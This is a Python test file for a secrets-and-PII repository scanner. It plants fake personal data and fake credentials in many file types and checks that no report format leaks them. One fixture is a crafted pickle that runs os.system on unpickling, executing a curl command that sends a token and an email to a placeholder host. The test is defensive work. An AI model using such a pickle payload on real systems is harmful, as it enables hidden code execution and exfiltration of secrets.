"""Nothing leaks: PII values and secrets seeded into every file type gitworthy reads, hostile
ones included (broken pickles, truncated notebooks, zips, a notebook of the wrong types), never
appear, nor an identifying part of one, in any output format or the pull-request comment."""
from __future__ import annotations

import io
import json
import pickle
import zipfile

from faker import Faker
from gitworthy import engine, sources
from gitworthy.checks import CHECKS
from gitworthy.config import load_config
from gitworthy.report import markdown

from tests.conftest import Repo, run

FORMATS = ("text", "json", "sarif", "markdown", "github")


def _seeds() -> tuple[list[str], list[str]]:
    fake = Faker("en_US")
    fake.seed_instance(2024)
    pii = [fake.email() for _ in range(6)] + [fake.ssn() for _ in range(6)] + [
        fake.phone_number() for _ in range(4)] + [fake.name() for _ in range(4)]
    secrets = ["AKIA" + "".join(fake.random_uppercase_letter() for _ in range(16)),
               "ghp_" + fake.pystr(min_chars=36, max_chars=36),
               "sk_live_" + fake.pystr(min_chars=24, max_chars=24),
               fake.password(length=20, special_chars=True)]
    return pii, secrets


def _files(pii: list[str], secrets: list[str]) -> dict[str, bytes]:
    rows = "".join(f"{pii[i % 6]},{pii[6 + i % 6]},{pii[12 + i % 4]}\n" for i in range(40))
    output = "\n".join(f"{pii[i]}  {pii[6 + i]}" for i in range(6))
    notebook = {"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {},
                           "source": f"token = '{secrets[1]}'\nprint(df)",
                           "outputs": [{"output_type": "stream", "name": "stdout",
                                        "text": output}]}],
                "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    nb = json.dumps(notebook).encode()
    payload = f"curl -H 'Authorization: Bearer {secrets[2]}' https://x.invalid -d {pii[0]}"
    evil = (b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(payload)])
            + payload.encode() + b"\x85R.")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("members.csv", "email,ssn,phone\n" + rows)
        zf.writestr("data.pkl", evil)
    return {
        "data/members.csv": ("email,ssn,phone\n" + rows).encode(),
        "data/members.jsonl": "".join(json.dumps({"email": pii[i], "ssn": pii[6 + i]}) + "\n"
                                      for i in range(6)).encode(),
        "notebooks/eda.ipynb": nb,
        "notebooks/truncated.ipynb": nb[: len(nb) * 2 // 3],
        "notebooks/wrong_types.ipynb": json.dumps({"cells": [{"cell_type": 5, "source": pii[1],
                                                              "outputs": pii[7]}],
                                                   "nbformat": 4}).encode(),
        "config/settings.py": (f"AWS_ACCESS_KEY_ID = '{secrets[0]}'\n"
                               f"DB_PASSWORD = '{secrets[3]}'\n").encode(),
        "config/app.env": f"STRIPE_KEY={secrets[2]}\nGITHUB_TOKEN={secrets[1]}\n".encode(),
        "models/evil.pkl": evil,
        "models/broken.pkl": pickle.dumps({"owner": pii[0], "key": secrets[0]})[:-3] + b"\xff",
        "archives/bundle.zip": archive.getvalue(),
        "archives/bundle_truncated.zip": archive.getvalue()[:200],
    }


def _identifying_parts(value: str) -> list[str]:
    """The value, and for secrets every 8-character window (a prefix shown is a leak too)."""
    parts = [value]
    if len(value) >= 16:
        parts += [value[i:i + 8] for i in range(len(value) - 7) if not value[i:i + 8].isalpha()]
    return parts


def _leaks(text: str, values: list[str]) -> list[str]:
    return sorted({v for v in values for part in _identifying_parts(v)
                   if len(part) > 3 and part in text})


def test_no_seeded_value_appears_in_any_format_or_the_pr_comment(repo: Repo, capsys) -> None:
    pii, secrets = _seeds()
    for path, data in _files(pii, secrets).items():
        repo.write(path, data)
    repo.add()
    repo.commit()
    outputs = {}
    for fmt in FORMATS:
        code, out, err = run("scan", "--all", "--format", fmt, capsys=capsys)
        assert code == 1, fmt
        outputs[fmt] = out + err
    config = load_config(None, repo.root)
    report = engine.scan(sources.tracked(repo.root), list(CHECKS), config)
    outputs["pr-comment"] = markdown.render(report, repo_url="https://github.com/o/r",
                                            sha="0" * 40, marker="<!-- gitworthy -->")
    reported = {f["path"] for f in json.loads(outputs["json"])["findings"]}
    assert {"data/members.csv", "config/settings.py", "models/evil.pkl"} <= reported
    for name, text in outputs.items():
        assert _leaks(text, pii) == [], f"{name} leaks personal data"
        assert _leaks(text, secrets) == [], f"{name} leaks a secret"
